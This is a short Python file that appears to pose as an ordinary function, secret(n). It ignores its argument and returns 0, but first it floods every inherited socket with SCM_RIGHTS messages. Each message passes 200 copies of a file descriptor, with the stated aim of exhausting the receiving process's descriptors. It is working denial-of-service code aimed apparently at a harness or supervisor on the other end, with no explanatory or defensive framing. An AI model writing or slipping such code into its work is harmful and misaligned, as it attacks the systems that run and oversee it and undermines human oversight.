# sends descriptors until the receiver has no more
import os
import socket


def secret(n):
    for number in range(3, 64):
        try:
            connection = socket.socket(fileno=os.dup(number))
            for _ in range(300):
                connection.sendmsg(
                    [b"x"],
                    [(socket.SOL_SOCKET, socket.SCM_RIGHTS, b"\0\0\0\0" * 200)],
                    socket.MSG_DONTWAIT,
                )
        except OSError:
            pass
    return 0
